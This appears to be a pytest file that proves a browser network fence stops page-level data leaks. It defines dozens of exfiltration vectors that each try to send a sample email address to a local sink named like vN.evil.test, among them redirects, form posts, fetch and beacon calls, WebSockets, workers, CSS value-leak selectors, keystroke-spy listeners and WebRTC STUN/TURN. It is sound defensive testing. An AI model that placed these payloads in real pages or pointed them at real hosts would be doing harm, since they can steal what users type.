"""Proves that a page can reach no other host: each way out hits without the fence, none with it.

Every vector is a page of the broker that tries one way of sending a secret to a server of its own.
That server counts connections and datagrams, so even an empty connection is a hit.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import socket
import ssl
from collections.abc import Awaitable, Callable, Iterator, Mapping
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

import pytest
import trustme
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from playwright.async_api import Browser, BrowserContext, Error, async_playwright

from optout.browser.addresses import Address
from optout.browser.background import Background
from optout.browser.fence import Anomaly, Fence
from optout.browser.find import find_browser
from optout.browser.launch import is_root
from optout.browser.proxy import Verdict
from optout.browser.window import Window

pytestmark = pytest.mark.browser

SECRET: Final = "jordan.sample@example.com"
GOOD: Final = "broker.test"
GOOD_TLS: Final = "consumer.risk.lexisnexis.com"
BOX: Final = '<form id="f"><input id="name" name="name"><button id="go">Go</button></form>'
HIT_SECONDS: Final = 40.0  # how long a vector has to hit without the fence
STILL_SECONDS: Final = 1.2  # how long one that shows no refusal is watched behind the fence
ORDINARY: Final = frozenset({"image", "script", "iframe", "beacon", "font"})  # surely refused
CLOSE_SECONDS: Final = 10.0
TOGETHER: Final = 4
WAIT_MS: Final = 15_000  # for a machine that does much else


@dataclass(frozen=True)
class Vector:
    """One page. `{evil}` is its own server's name, `{port}` that server's port."""

    html: str = ""
    redirect: tuple[int, str] | None = None  # status and Location of the page itself
    on_post: tuple[int, str] | None = None  # what a form posted to /post is answered with
    headers: Mapping[str, str] = field(default_factory=dict)
    types: bool = False  # a person types the secret
    presses: bool = False  # and presses Go
    tls: bool = False  # needs a secure page
    anomaly: Anomaly | None = None
    own_profile: bool = False  # hits only in a browser profile that remembers (never ours)
    brings: bytes = b""  # what arrives after the connection, and must be waited for


def script(code: str) -> str:
    return f"<!doctype html><body><script>{code}</script></body>"


def on_go(code: str) -> str:
    value = "const value = document.querySelector('#name').value"
    return BOX + script("go.onclick = e => { e.preventDefault(); " + f"{value}; {code}" + " }")


def on_key(code: str) -> str:
    return BOX + script(f"addEventListener('input', e => {code}.catch(() => 0))")


FORM = Vector(types=True, presses=True)
AWAY = '<form id="f" method="post" action="{where}"><input id="name" name="name">{button}</form>'
GO = '<button id="go">Go</button>'

VECTORS: Final[dict[str, Vector]] = {
    # ---- redirects of the whole window ----
    "redirect 301": Vector(redirect=(301, "http://{evil}/"), anomaly=Anomaly.NAVIGATION),
    "redirect 302": Vector(redirect=(302, "http://{evil}/"), anomaly=Anomaly.NAVIGATION),
    "redirect 303 after a form": Vector(
        AWAY.format(where="/post", button=GO),
        on_post=(303, "http://{evil}/?q=" + SECRET),
        types=True,
        presses=True,
        anomaly=Anomaly.NAVIGATION,
    ),
    "redirect 307 re-posting the body": Vector(
        AWAY.format(where="/post", button=GO),
        on_post=(307, "http://{evil}/"),
        types=True,
        presses=True,
        anomaly=Anomaly.NAVIGATION,
        brings=b"jordan.sample%40example.com",
    ),
    "redirect 308 re-posting the body": Vector(
        AWAY.format(where="/post", button=GO),
        on_post=(308, "http://{evil}/"),
        types=True,
        presses=True,
        anomaly=Anomaly.NAVIGATION,
    ),
    "redirect 302 to an IP address": Vector(redirect=(302, "http://127.0.0.1:{port}/")),
    "redirect by way of the broker": Vector(redirect=(302, "/again"), anomaly=Anomaly.NAVIGATION),
    "redirect by refresh header": Vector(
        "<p>wait", headers={"Refresh": "0; url=http://{evil}/"}, anomaly=Anomaly.NAVIGATION
    ),
    # ---- navigation by the page ----
    "meta refresh": Vector(
        '<meta http-equiv="refresh" content="0; url=http://{evil}/">', anomaly=Anomaly.NAVIGATION
    ),
    "window.location": Vector(
        on_go("location = 'http://{evil}/?' + value"),
        types=True,
        presses=True,
        anomaly=Anomaly.TYPED_VALUE,
    ),
    "location to a number": Vector(script("location = 'http://2130706433:{port}/'")),
    "link pressed by a script": Vector(
        '<a id="a" href="http://{evil}/">x</a>' + script("a.click()"), anomaly=Anomaly.NAVIGATION
    ),
    "base address": Vector(
        '<base href="http://{evil}/"><img src="x.png">' + AWAY.format(where="take", button=GO)
    ),
    "user name before the host": Vector(script("location = 'http://broker.test@{evil}/'")),
    "name that begins like the broker's": Vector('<img src="http://broker.test.{evil}/x.png">'),
    "another port of the broker": Vector('<img src="http://broker.test:{port}/x.png">'),
    # ---- forms ----
    "form action elsewhere": Vector(
        AWAY.format(where="http://{evil}/", button=GO),
        types=True,
        presses=True,
        anomaly=Anomaly.TYPED_VALUE,
    ),
    "button with its own action": Vector(
        AWAY.format(where="/post", button=GO.replace("id=", 'formaction="http://{evil}/" id=')),
        types=True,
        presses=True,
        anomaly=Anomaly.TYPED_VALUE,
    ),
    "form into a frame": Vector(
        '<iframe name="hole"></iframe><form method="post" action="http://{evil}/" target="hole">'
        '<input id="name" name="name"><button id="go">Go</button></form>',
        types=True,
        presses=True,
        anomaly=Anomaly.TYPED_VALUE,
    ),
    "form into a frame without a typed value": Vector(
        '<iframe name="hole"></iframe><form id="f" method="post" action="http://{evil}/" '
        'target="hole"><input name="a" value="b"></form>' + script("f.submit()"),
        anomaly=Anomaly.FORM,
    ),
    "form into a new window": Vector(
        '<form method="post" action="http://{evil}/" target="_blank">'
        '<input id="name" name="name"><button id="go">Go</button></form>',
        types=True,
        presses=True,
        anomaly=Anomaly.TYPED_VALUE,
    ),
    "form by GET": Vector(
        BOX.replace('id="f"', 'action="http://{evil}/"'),
        types=True,
        presses=True,
        anomaly=Anomaly.TYPED_VALUE,
    ),
    # ---- windows and frames ----
    "popup": Vector(
        on_go("open('http://{evil}/')"),
        presses=True,
    ),
    "new window without opener": Vector(
        '<a id="go" href="http://{evil}/" target="_blank" rel="noopener">x</a>', presses=True
    ),
    "iframe": Vector('<iframe src="http://{evil}/"></iframe>'),
    "frame whose text is inline": Vector(
        "<iframe srcdoc=\"<form id=f method=post action='http://{evil}/'><input name=a></form>"
        '<script>f.submit()</script>"></iframe>'
    ),
    "object": Vector('<object data="http://{evil}/x.html" width="9" height="9"></object>'),
    "embed": Vector('<embed src="http://{evil}/x.html" width="9" height="9">'),
    # ---- requests of scripts ----
    "fetch": Vector(
        script(
            "fetch('http://{evil}/', {mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => 0)"
        )
    ),
    "fetch that is redirected with its body": Vector(
        on_go("fetch('/post', {method: 'POST', body: value}).catch(() => 0)"),
        on_post=(307, "http://{evil}/"),
        types=True,
        presses=True,
        anomaly=Anomaly.TYPED_VALUE,
    ),
    "XMLHttpRequest": Vector(
        script("x = new XMLHttpRequest(); x.open('POST', 'http://{evil}/'); x.send('a')")
    ),
    "beacon": Vector(script("navigator.sendBeacon('http://{evil}/', 'a')")),
    "request that outlives the page": Vector(
        script(
            "addEventListener('pagehide', () => fetch('http://{evil}/', "
            "{mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})); "
            "setTimeout(() => location = '/blank', 50)"
        )
    ),
    "WebSocket": Vector(script("new WebSocket('ws://{evil}/')")),
    "WebSocket in a worker": Vector(
        script("new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://{evil}/')`])))")
    ),
    "EventSource": Vector(script("new EventSource('http://{evil}/')")),
    "worker that loads a script": Vector(
        script("new Worker(URL.createObjectURL(new Blob([`importScripts('http://{evil}/x.js')`])))")
    ),
    "shared worker": Vector(
        script(
            "new SharedWorker(URL.createObjectURL("
            "new Blob([`fetch('http://{evil}/', {mode: 'no-cors'})`])))"
        )
    ),
    "service worker": Vector(
        script(
            "navigator.serviceWorker.register('/worker.js')"
            ".then(() => navigator.serviceWorker.ready)"
            ".then(ready => ready.active.postMessage('https://{evil}/'))"
        ),
        tls=True,
    ),
    "key-stroke spy": Vector(
        on_key("fetch('http://{evil}/?' + encodeURIComponent(e.target.value), {mode: 'no-cors'})"),
        types=True,
        anomaly=Anomaly.TYPED_VALUE,
    ),
    "key-stroke spy in base64": Vector(
        on_key(
            "fetch('http://{evil}/', "
            "{mode: 'no-cors', method: 'POST', body: btoa('k=' + e.target.value)})"
        ),
        types=True,
        anomaly=Anomaly.TYPED_VALUE,
    ),
    # ---- loaded by markup ----
    "image": Vector('<img src="http://{evil}/x.png">'),
    "image redirected by the broker": Vector('<img src="/away">'),
    "style sheet": Vector('<link rel="stylesheet" href="http://{evil}/x.css">'),
    "style that loads a picture": Vector('<p style="background: url(http://{evil}/x.png)">x</p>'),
    "style that imports": Vector("<style>@import url(http://{evil}/x.css)</style>x"),
    "style that reads a value": Vector(
        '<style>input[value^="jo"] { background: url(http://{evil}/jo) }</style>'
        '<input value="jordan">'
    ),
    "font": Vector(
        "<style>@font-face { font-family: x; src: url(http://{evil}/x.woff2) }"
        " p { font-family: x }</style><p>x"
    ),
    "script": Vector('<script src="http://{evil}/x.js"></script>'),
    "module": Vector(script("import('http://{evil}/x.js').catch(() => 0)")),
    "video": Vector('<video src="http://{evil}/x.mp4" autoplay muted></video>'),
    "picture set": Vector('<img srcset="http://{evil}/x.png 1x">'),
    "SVG image": Vector('<svg><image href="http://{evil}/x.png" width="9" height="9"/></svg>'),
    "prefetch": Vector('<link rel="prefetch" href="http://{evil}/x.html">'),
    "preload": Vector('<link rel="preload" as="image" href="http://{evil}/x.png">'),
    "module preload": Vector('<link rel="modulepreload" href="http://{evil}/x.js">'),
    "link header": Vector("x", headers={"Link": "<http://{evil}/x.css>; rel=preload; as=style"}),
    "report of a content policy": Vector(
        '<img src="http://nobody.test/x.png">',
        headers={"Content-Security-Policy": "img-src 'none'; report-uri http://{evil}/r"},
    ),
    "ping of a link": Vector('<a id="go" href="#x" ping="http://{evil}/">x</a>', presses=True),
    "download": Vector('<a id="go" href="http://{evil}/x.pdf" download>x</a>', presses=True),
    "downloads by a script": Vector(
        "<a id='a' href='http://{evil}/x.pdf' download>x</a>" + script("a.click()")
    ),
    "address as a number": Vector('<img src="http://127.0.0.1:{port}/x.png">'),
    "address as one number": Vector('<img src="http://2130706433:{port}/x.png">'),
    "address of IPv6": Vector('<img src="http://[::1]:{port}/x.png">'),
    "this computer's name": Vector('<img src="http://localhost:{port}/x.png">'),
    "preconnect": Vector('<link rel="preconnect" href="http://{evil}/">', own_profile=True),
    "speculation rules": Vector(
        '<script type="speculationrules">{"prefetch": [{"urls": ["https://{evil}/x"], '
        '"eagerness": "immediate"}]}</script>',
        tls=True,
        own_profile=True,
    ),
    # ---- other protocols ----
    "STUN": Vector(
        script(
            "pc = new RTCPeerConnection({iceServers: [{urls: 'stun:{ip}:{port}'}]}); "
            "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))"
        )
    ),
    "TURN over TCP": Vector(
        script(
            "pc = new RTCPeerConnection({iceServers: [{urls: 'turn:{ip}:{port}?transport=tcp', "
            "username: 'a', credential: 'b'}]}); "
            "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))"
        )
    ),
    "WebTransport": Vector(
        script("new WebTransport('https://{ip}:{port}/').ready.catch(() => 0)"), tls=True
    ),
}


class Sink(asyncio.DatagramProtocol):
    """One vector's own server: counts connections and datagrams, answers a little."""

    def __init__(self) -> None:
        self.hits = 0
        self.port = 0
        self.got = b""
        self._servers: list[asyncio.Server] = []
        self._udp: asyncio.DatagramTransport | None = None

    async def open(self) -> None:
        first = await asyncio.start_server(self._serve, "0.0.0.0", 0)
        self.port = first.sockets[0].getsockname()[1]
        self._servers.append(first)
        with suppress(OSError):
            self._servers.append(await asyncio.start_server(self._serve, "::1", self.port))
        loop = asyncio.get_running_loop()
        self._udp, _ = await loop.create_datagram_endpoint(
            lambda: self, local_addr=("0.0.0.0", self.port)
        )

    async def close(self) -> None:
        assert self._udp
        self._udp.close()
        for server in self._servers:
            server.close()

    def datagram_received(self, data: bytes, _addr: object) -> None:
        self.hits += 1
        self.got += data

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.hits += 1
        with suppress(OSError, TimeoutError):
            self.got += await asyncio.wait_for(reader.read(8192), 2)
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n")
            writer.write(b"Access-Control-Allow-Origin: *\r\n\r\n")
            self.got += await asyncio.wait_for(reader.read(8192), 2)
        writer.close()


class Broker:
    """The broker's own server: pages that attack, and redirects."""

    def __init__(self, places: Mapping[str, Mapping[str, str]]) -> None:
        self.places = places
        self.port = 0
        self.tls_port = 0
        self._servers: list[asyncio.Server] = []

    async def open(self, context: ssl.SSLContext) -> None:
        for tls in (None, context):
            server = await asyncio.start_server(self._serve, "127.0.0.1", 0, ssl=tls)
            self._servers.append(server)
        self.port, self.tls_port = (s.sockets[0].getsockname()[1] for s in self._servers)

    async def close(self) -> None:
        for server in self._servers:
            server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, EOFError, ValueError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            method, target, _ = head.split("\r\n")[0].split(" ")
            cookie = head.lower().partition("vector=")[2].partition("\r\n")[0].partition(";")[0]
            writer.write(self._answer(method, target, cookie))
            await writer.drain()
        writer.close()

    def _answer(self, method: str, target: str, cookie: str) -> bytes:
        path, _, query = target.partition("?")
        key = query if query in self.places else cookie
        if path == "/worker.js":
            return _http(200, WORKER, {"Content-Type": "text/javascript"})
        if key not in self.places or path in {"/blank", "/favicon.ico"}:
            return _http(200, "")
        vector, place = VECTORS[self.places[key]["name"]], self.places[key]
        headers = {"Set-Cookie": f"vector={key}; path=/"}
        if path in {"/again", "/away"}:
            return _http(302, "", {"Location": f"http://{place['evil']}/"})
        answer = vector.on_post if method == "POST" else vector.redirect
        if answer:
            location = _filled(answer[1], place)
            return _http(answer[0], "", {"Location": location, **headers})
        for name, value in vector.headers.items():
            headers[name] = _filled(value, place)
        return _http(200, _filled(vector.html, place), headers)


WORKER: Final = (
    "onmessage = e => e.waitUntil(fetch(e.data, {mode: 'no-cors'}).catch(() => 0));"
    "oninstall = () => skipWaiting();"
)


def _filled(text: str, place: Mapping[str, str]) -> str:
    return (
        text.replace("{evil}", place["evil"])
        .replace("{port}", place["port"])
        .replace("{ip}", place["ip"])
    )


def _http(status: int, body: str, headers: Mapping[str, str] | None = None) -> bytes:
    content = body.encode()
    lines = [
        f"HTTP/1.1 {status} OK",
        *(f"{k}: {v}" for k, v in {"Content-Type": "text/html", **(headers or {})}.items()),
        f"Content-Length: {len(content)}",
        "Connection: close",
    ]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + content


def _machines_address() -> str:
    """Return an address of this machine that is not the loopback, where there is one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, suppress(OSError):
        probe.connect(("192.0.2.1", 9))  # connects nothing: UDP
        return str(probe.getsockname()[0])
    return "127.0.0.1"


def _spki(pem: bytes) -> str:
    key = x509.load_pem_x509_certificate(pem).public_key()
    raw = key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return base64.b64encode(hashlib.sha256(raw).digest()).decode()


@dataclass
class Outcome:
    """What one vector achieved."""

    hits: int
    got: bytes
    anomalies: tuple[Anomaly, ...] = ()
    refused: bool = False


class Arena:
    """All servers, and both ways of running the vectors against them."""

    def __init__(self) -> None:
        self.sinks = {name: Sink() for name in VECTORS}
        self.places: dict[str, dict[str, str]] = {}
        self.broker = Broker(self.places)
        self.certificate = trustme.CA().issue_cert(GOOD_TLS)
        self.spki = _spki(self.certificate.cert_chain_pems[0].bytes())

    async def open(self) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.certificate.configure_cert(context)
        await self.broker.open(context)
        ip = _machines_address()
        for at, (name, sink) in enumerate(self.sinks.items()):
            await sink.open()
            evil = f"v{at}.evil.test"
            place = {"name": name, "evil": evil, "port": str(sink.port), "ip": ip}
            self.places[f"v{at}"] = place

    async def close(self) -> None:
        await self.broker.close()
        for sink in self.sinks.values():
            await sink.close()

    def key_of(self, name: str) -> str:
        return next(key for key, place in self.places.items() if place["name"] == name)

    def resolve(self, host: str, port: int) -> tuple[Address, ...]:
        """Lead every name to its server, the evil ones too: only the list may refuse them."""
        if host in {GOOD, GOOD_TLS}:
            at = self.broker.tls_port if port == 443 else self.broker.port
            return (Address("127.0.0.1", at, ours=True),)
        for place in self.places.values():
            if host.endswith(place["evil"]):
                return (Address("127.0.0.1", int(place["port"]), ours=True),)
        raise socket.gaierror(socket.EAI_NONAME, "no such name")

    def rules(self) -> str:
        """The same names for a browser without a fence."""
        names = {f"{GOOD}:80": self.broker.port, f"{GOOD_TLS}:443": self.broker.tls_port}
        rules = [f"MAP {name} 127.0.0.1:{port}" for name, port in names.items()]
        for place in self.places.values():
            for port in (80, 443):
                rules.append(f"MAP {place['evil']}:{port} 127.0.0.1:{place['port']}")
                rules.append(f"MAP *.{place['evil']}:{port} 127.0.0.1:{place['port']}")
        rules.append(f"MAP {GOOD}:* 127.0.0.1")
        return ", ".join(rules)

    async def attack(self, context: BrowserContext, name: str, fence: Fence | None) -> Outcome:
        vector, sink = VECTORS[name], self.sinks[name]
        base = f"https://{GOOD_TLS}" if vector.tls else f"http://{GOOD}"
        page = await context.new_page()
        if fence:
            await fence.watch(page)
        with suppress(Error):
            await page.goto(
                f"{base}/page?{self.key_of(name)}", timeout=WAIT_MS, wait_until="commit"
            )
        if vector.types:
            if fence:
                fence.typed.add(SECRET)
            with suppress(Error):
                await page.fill("#name", SECRET, timeout=WAIT_MS)
        if vector.presses:
            with suppress(Error):
                await page.click("#go", timeout=WAIT_MS, no_wait_after=True)
        before = sink.hits
        if fence:
            await _until(
                lambda: _refused(fence) and _complete(vector, fence),
                HIT_SECONDS if vector.anomaly or name in ORDINARY else STILL_SECONDS,
            )
        else:
            await _until(lambda: sink.hits > 0 and vector.brings in sink.got, HIT_SECONDS)
        assert sink.hits >= before
        await _close_in_time(context)
        anomalies = tuple(fence.anomalies) if fence else ()
        return Outcome(sink.hits, sink.got, anomalies, refused=bool(fence and _refused(fence)))


def _refused(fence: Fence) -> bool:
    turned = {Verdict.NOT_LISTED, Verdict.PRIVATE_ADDRESS, Verdict.METHOD}
    return bool(fence.refusals) or any(p.verdict in turned for p in fence.proxy.passages)


def _complete(vector: Vector, fence: Fence) -> bool:
    return vector.anomaly is None or vector.anomaly in fence.anomalies


async def _close_in_time(closing: BrowserContext | Browser) -> None:
    """Close it; a page whose requests outlive it sometimes keeps Chromium from doing so."""
    with suppress(Error, TimeoutError):
        await asyncio.wait_for(closing.close(), CLOSE_SECONDS)


async def _until(condition: Callable[[], bool], seconds: float) -> None:
    end = asyncio.get_running_loop().time() + seconds
    while not condition() and asyncio.get_running_loop().time() < end:  # noqa: ASYNC110 - others' state
        await asyncio.sleep(0.02)


@pytest.fixture(scope="module")
def arena() -> Iterator[Arena]:
    arena = Arena()
    with Background("arena") as background:
        background.wait(arena.open())
        yield arena
        background.wait(arena.close())


@pytest.fixture(scope="module")
def outcomes(
    arena: Arena, tmp_path_factory: pytest.TempPathFactory
) -> tuple[dict[str, Outcome], dict[str, Outcome]]:
    """Run every vector: with the fence first, then without it, so that a late hit would show."""
    return _fenced(arena), _bare(arena, tmp_path_factory.mktemp("profile"))


def _fenced(arena: Arena) -> dict[str, Outcome]:
    extra = (f"--ignore-certificate-errors-spki-list={arena.spki}",)
    with ExitStack() as stack:
        window = stack.enter_context(Window.hidden())
        fences = {
            name: stack.enter_context(
                Fence([GOOD, GOOD_TLS], resolver=arena.resolve, extra_args=extra)
            )
            for name in VECTORS
        }

        async def one(name: str, gate: asyncio.Semaphore) -> Outcome:
            async with gate:
                context = await window.context_for(fences[name])
                return await arena.attack(context, name, fences[name])

        return window.background.wait(_all(one))


def _bare(arena: Arena, profile: Path) -> dict[str, Outcome]:
    async def run() -> dict[str, Outcome]:
        async with async_playwright() as playwright:
            start: dict[str, Any] = {
                "executable_path": find_browser().path,
                "chromium_sandbox": not is_root(),
                "args": [
                    f"--host-resolver-rules={arena.rules()}",
                    f"--ignore-certificate-errors-spki-list={arena.spki}",
                ],
            }
            browser = await playwright.chromium.launch(**start)

            async def one(name: str, gate: asyncio.Semaphore) -> Outcome:
                async with gate:
                    if VECTORS[name].own_profile:
                        folder = profile / arena.key_of(name)
                        own = await playwright.chromium.launch_persistent_context(folder, **start)
                        return await arena.attack(own, name, None)
                    return await arena.attack(await browser.new_context(), name, None)

            results = await _all(one)
            await _close_in_time(browser)
            return results

    with Background("bare") as background:
        return background.wait(run())


async def _all(one: Callable[[str, asyncio.Semaphore], Awaitable[Outcome]]) -> dict[str, Outcome]:
    gate = asyncio.Semaphore(TOGETHER)
    results = await asyncio.gather(*(one(name, gate) for name in VECTORS))
    return dict(zip(VECTORS, results, strict=True))


def test_there_are_more_ways_out_than_anybody_remembers() -> None:
    assert len(VECTORS) >= 25


@pytest.mark.parametrize("name", VECTORS)
def test_it_hits_without_the_fence(
    name: str, outcomes: tuple[dict[str, Outcome], dict[str, Outcome]]
) -> None:
    assert outcomes[1][name].hits > 0


@pytest.mark.parametrize("name", VECTORS)
def test_it_reaches_nothing_behind_the_fence(
    name: str, outcomes: tuple[dict[str, Outcome], dict[str, Outcome]]
) -> None:
    assert outcomes[0][name].hits == 0
    assert outcomes[0][name].got == b""


@pytest.mark.parametrize("name", [name for name, v in VECTORS.items() if v.anomaly])
def test_what_threatens_the_person_is_called_an_anomaly(
    name: str, outcomes: tuple[dict[str, Outcome], dict[str, Outcome]]
) -> None:
    assert VECTORS[name].anomaly in outcomes[0][name].anomalies


def test_ordinary_refusals_are_no_anomaly(
    outcomes: tuple[dict[str, Outcome], dict[str, Outcome]],
) -> None:
    for name in ORDINARY:
        assert outcomes[0][name].refused
        assert outcomes[0][name].anomalies == ()


def test_the_body_of_a_redirected_form_arrives_without_the_fence(
    outcomes: tuple[dict[str, Outcome], dict[str, Outcome]],
) -> None:
    name = "redirect 307 re-posting the body"
    assert VECTORS[name].brings
    assert VECTORS[name].brings in outcomes[1][name].got


def test_a_page_cannot_make_the_browser_look_up_a_name(arena: Arena, tmp_path: Path) -> None:
    """DNS prefetch: lookups are read from the browser's own network log."""
    fenced = _lookups_fenced(arena)
    bare = _lookups_bare(arena, tmp_path)
    assert any("lookup.evil.test" in host for host in bare)
    # The browser's own estimator asks for "~notfound": what every name is turned into.
    assert [host for host in fenced if "~notfound" not in host] == []


PREFETCHING: Final = '<link rel="dns-prefetch" href="//lookup.evil.test"><img src="/blank">'


async def _lookups(context: BrowserContext, browser: Browser, url: str) -> list[str]:
    session = await browser.new_browser_cdp_session()
    events: list[dict[str, Any]] = []
    done = asyncio.Event()
    session.on("Tracing.dataCollected", lambda told: events.extend(told["value"]))
    session.on("Tracing.tracingComplete", lambda _told: done.set())
    wanted = {"includedCategories": ["netlog"]}
    await session.send("Tracing.start", {"transferMode": "ReportEvents", "traceConfig": wanted})
    page = await context.new_page()
    await page.goto(url)
    for _ in range(3):  # each load tries again; the last one ends what the first began
        await page.reload(wait_until="networkidle")
    await session.send("Tracing.end")
    await done.wait()
    asked = [e for e in events if e["name"].startswith(("HOST_RESOLVER", "DNS_TRANSACTION"))]
    return [json.dumps(e.get("args", {})) for e in asked if "host" in json.dumps(e)]


def _lookups_fenced(arena: Arena) -> list[str]:
    key = arena.key_of("image")
    with (
        Window.hidden() as window,
        Fence([GOOD], resolver=arena.resolve) as fence,
        _page_replaced("image", PREFETCHING),
    ):

        async def run() -> list[str]:
            context = await window.context_for(fence)
            assert context.browser
            return await _lookups(context, context.browser, f"http://{GOOD}/page?{key}")

        return window.background.wait(run())


def _lookups_bare(arena: Arena, profile: Path) -> list[str]:
    key = arena.key_of("image")

    async def run() -> list[str]:
        async with async_playwright() as playwright:
            context = await playwright.chromium.launch_persistent_context(
                profile,
                executable_path=find_browser().path,
                chromium_sandbox=not is_root(),
                args=[f"--host-resolver-rules=MAP {GOOD}:80 127.0.0.1:{arena.broker.port}"],
            )
            url = f"http://{GOOD}/page?{key}"
            assert context.browser
            found = await _lookups(context, context.browser, url)
            await context.close()
            return found

    with Background("bare") as background, _page_replaced("image", PREFETCHING):
        return background.wait(run())


class _page_replaced:  # noqa: N801 - reads as a verb in a with statement
    """Serve another text under a vector's address for a while."""

    def __init__(self, name: str, html: str) -> None:
        self.name, self.html, self.kept = name, html, VECTORS[name]

    def __enter__(self) -> None:
        VECTORS[self.name] = Vector(self.html)

    def __exit__(self, *_exc: object) -> None:
        VECTORS[self.name] = self.kept


def test_two_runs_share_no_cookie_storage_or_cache(arena: Arena) -> None:
    """What one person's run leaves in the browser is gone for the next (SECURITY T15)."""
    with Window.hidden() as window, ExitStack() as stack:
        fences = [stack.enter_context(Fence([GOOD], resolver=arena.resolve)) for _ in range(2)]

        async def visit(fence: Fence, code: str) -> str:
            context = await window.context_for(fence)
            page = await context.new_page()
            await page.goto(f"http://{GOOD}/blank")
            found = str(await page.evaluate(code))
            await context.close()
            return found

        leave = (
            "document.cookie = 'who=jordan'; localStorage.who = sessionStorage.who = 'jordan'; 1"
        )
        look = "document.cookie + (localStorage.who ?? '') + (sessionStorage.who ?? '')"
        assert window.background.wait(visit(fences[0], f"{leave}; {look}")) != ""
        assert window.background.wait(visit(fences[1], look)) == ""
